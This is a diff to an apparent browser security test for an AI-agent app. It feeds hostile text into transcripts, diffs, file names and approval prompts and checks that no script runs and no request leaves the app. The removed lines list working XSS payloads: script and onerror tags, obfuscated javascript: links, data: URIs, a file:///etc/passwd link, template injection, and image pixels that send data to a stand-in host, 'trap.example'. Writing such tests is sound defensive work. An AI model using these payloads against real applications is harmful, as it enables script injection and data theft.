@@ -1,56 +1,59 @@
 /** Whatever a model, a tool or a file name says: no script, no request, no press that leaves the app unasked. Live and restored. */
 // needs: chromium
+import { AppError } from '#contracts/wire/app-error.ts'
 import { testIds } from '#renderer/ui/test-ids.ts'
 import { afterEach, beforeEach, expect, test } from 'vitest'
+import { proof } from '../../helpers/proof.ts'
 import { ScriptedHost } from '../../helpers/scripted-host.ts'
 import { waitUntil } from '../helpers.ts'
+import { PAYLOADS as ALL, TRAP } from './hostile-payloads.ts'
 import { openPage, useChromium, type OpenedPage } from './open-page.ts'
 
 useChromium()
 
 const ID = 's_hostile000'
-const TRAP = 'https://trap.example/leak'
-const PAYLOADS = [
-  '<script>window.hit=1</script>',
-  '<img src=x onerror="window.hit=1">',
-  `<img src="${TRAP}">`,
-  `![pixel](${TRAP}?q=secret)`,
-  `![pixel][ref]\n\n[ref]: ${TRAP}`,
-  `<svg onload="window.hit=1"><image href="${TRAP}"/></svg>`,
-  `<iframe src="${TRAP}"></iframe>`,
-  `<style>@import url(${TRAP});</style>`,
-  `<link rel="stylesheet" href="${TRAP}">`,
-  `<video poster="${TRAP}"></video>`,
-  `<form action="${TRAP}"><button autofocus onfocus=window.hit=1>x</button></form>`,
-  '[click](javascript:window.hit=1)',
-  '[click](JaVaScRiPt:window.hit=1)',
-  '[click](java\tscript:window.hit=1)',
-  '[click](&#106;avascript:window.hit=1)',
-  '[click](vbscript:msgbox)',
-  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)',
-  '[click](file:///etc/passwd)',
-  '<javascript:window.hit=1>',
-  `[a]: ${TRAP} "x" onmouseover="window.hit=1"\n\n[a]`,
-  '```html\n<script>window.hit=1</script>\n```',
-  '```"><script>window.hit=1</script>\ncode\n```',
-  '| <img src=x onerror=window.hit=1> |\n| --- |\n| <script>window.hit=1</script> |',
-  '{{ constructor.constructor("window.hit=1")() }}',
-  '<div v-html="1" @click="window.hit=1">{{ 7*7 }}</div>',
-  '# <a href="javascript:window.hit=1">x</a>',
-  `[![img](${TRAP})](javascript:window.hit=1)`,
-  '‮evil‬ \u0000 \u2028 text',
-]
+/** Every one in the large tier, every third one else: the kinds stay, the forms thin out. */
+const PAYLOADS = ALL.filter((_payload, index) => proof(true, index % 3 === 0))
 
 let host: ScriptedHost
 let opened: OpenedPage
 
 beforeEach(() => {
   host = new ScriptedHost()
+  const [first = ''] = PAYLOADS
+  host.answer('session.changes', () => ({ changes: PAYLOADS.map((path, at) => ({ toolCallId: `tc_${at}`, at, path, created: true })) }))
+  host.answer('inspect.traces', () => ({
+    traces: PAYLOADS.map((name, iteration) => ({
+      file: name,
+      turn: 1,
+      iteration,
+      startedAt: 0,
+      endedAt: 10,
+      spans: [{ name, kind: name, startedAt: 1, endedAt: 2, error: name }],
+    })),
+  }))
+  host.answer('files.find', () => ({ files: PAYLOADS.slice(0, 100).map((path) => ({ path, at: [0, 1] })), total: 1, complete: true }))
+  host.answer('history.edit', () => {
+    throw new AppError({ code: 'MESSAGE_NOT_FOUND', message: first })
+  })
   host.answer('workspace.recent', () => ({ workspaces: [{ path: '/w<img src=x onerror=window.hit=1>', openedAt: '', trusted: true }] }))
 })
 afterEach(async () => {
   await opened.close()
 })
+
+/** Each kind of view in its turn. */
+function displayOf(payload: string, index: number): Record<string, unknown> {
+  const kinds: readonly Record<string, unknown>[] = [
+    { kind: 'diff', path: payload, diff: `@@ -1 +1 @@\n-${payload}\n+${payload} now` },
+    { kind: 'terminal', text: payload, exitCode: 1 },
+    { kind: 'table', columns: [{ name: payload, type: 'text' }], sample: [[payload], [1]], rows: 2 },
+    { kind: 'list', entries: [payload] },
+    { kind: 'todo', items: [{ text: payload, status: 'done' }] },
+    { kind: payload, [payload]: payload },
+  ]
+  return kinds[index % kinds.length] ?? {}
+}
 
 /** Everywhere a foreign text can stand. */
 function fill(payload: string, index: number): void {
@@ -87,6 +90,7 @@ function fill(payload: string, index: number): void {
       outcome: 'error',
       error: payload,
       summary: payload,
+      display: displayOf(payload, index),
     },
     { event: 'notice', code: 'strange', message: payload, turn },
     {
@@ -104,7 +108,7 @@ interface Harvest {
   readonly hit: unknown
   readonly faults: string[]
   readonly requests: string[]
-  readonly links: (string | null)[]
+  readonly wrongLinks: string[]
   readonly calls: string[]
 }
 
@@ -115,7 +119,7 @@ async function harvest(): Promise<Harvest> {
     hit: await opened.page.evaluate(() => (globalThis as unknown as { hit?: unknown }).hit ?? null),
     faults: await opened.faults(),
     requests: opened.foreignRequests,
-    links,
+    wrongLinks: links.filter((address) => !/^(?:https|mailto):/.test(address)),
     calls: host.calls.filter((call) => call.method === 'native.call').map((call) => JSON.stringify(call.params)),
   }
 }
@@ -155,7 +159,8 @@ async function walkTranscript(): Promise<string[]> {
   return [...links]
 }
 
-const CLEAN = { hit: null, faults: [], requests: [], links: [`${TRAP}`], calls: [] }
+/** Links are made of `https:` and `mailto:` only. */
+const CLEAN = { hit: null, faults: [], requests: [], wrongLinks: [], calls: [] }
 
 test('restored: no script, no request, no privileged call', async () => {
   host.addSession(ID, '/w', { title: PAYLOADS[1] ?? '' })
@@ -198,6 +203,58 @@ test('streamed letter by letter: no script, no request, no privileged call', asy
   })
   await opened.page.locator(`[data-testid="${testIds.approvalAllowOnce}"]:enabled`).waitFor()
   expect(await harvest()).toEqual(CLEAN)
+})
+
+test('inspector, names of files and the queue of questions: no script, no request, no privileged call', { timeout: 120_000 }, async () => {
+  host.addSession(ID, '/w', { title: PAYLOADS[3] ?? '' })
+  PAYLOADS.slice(0, 12).forEach(fill)
+  host.emit(
+    ID,
+    { event: 'user_message', messageId: 'u_last', content: 'go', turn: 900 },
+    { event: 'iteration_start', iteration: 1, turn: 900 },
+  )
+  for (const [index, payload] of PAYLOADS.slice(0, 3).entries())
+    host.emit(ID, {
+      event: 'permission_request',
+      iteration: 1,
+      turn: 900,
+      tool: payload,
+      toolCallId: `tc_ask${index}`,
+      argumentsHash: 'h',
+      display: payload,
+      risk: payload,
+      reason: payload,
+      grantPrefix: payload,
+      ...(index === 2 ? { question: { text: payload, options: [payload] } } : {}),
+    })
+  opened = await openPage(host, { address: `#/session/${ID}` })
+  await opened.at(testIds.transcript).waitFor()
+  for (const tab of ['overview', 'changes', 'timing', 'context', 'log']) {
+    await opened.page.locator(`[data-testid="${testIds.inspectorTab}"][data-tab="${tab}"]`).click()
+    const toggles = opened.page.locator(`[data-testid="${testIds.inspector}"] button[aria-expanded="false"]`)
+    for (let count = 0; count < 6 && (await toggles.count()) > 0; count += 1) await toggles.first().click()
+  }
+  await opened.at(testIds.approvalQueueOpen).click()
+  await opened.at(testIds.approvalQueue).waitFor()
+  await opened.page.keyboard.press('Escape')
+  await opened.at(testIds.composerInput).pressSequentially('@a')
+  await opened.at(testIds.suggestion).first().waitFor()
+  expect(await harvest()).toEqual(CLEAN)
+})
+
+test('control: the same texts as raw HTML do run and do fetch', async () => {
+  host.addSession(ID, '/w')
+  opened = await openPage(host, { address: `#/session/${ID}` })
+  const bare = await opened.context.newPage()
+  const asked: string[] = []
+  bare.on('request', (request) => asked.push(request.url()))
+  await bare.setContent(`<body>${ALL.join('\n')}</body>`, { waitUntil: 'domcontentloaded' })
+  await waitUntil(async () => {
+    const hit = await bare.evaluate(() => (globalThis as unknown as { hit?: unknown }).hit ?? null)
+    expect({ ran: hit === 1, fetched: asked.some((url) => url.includes('trap.example')) }).toEqual({ ran: true, fetched: true })
+  })
+  console.log(`${ALL.length} texts`)
+  expect(ALL.length).toBeGreaterThanOrEqual(200)
 })
 
 test('a link is opened by the shell when it is pressed, with the address that was shown', async () => {
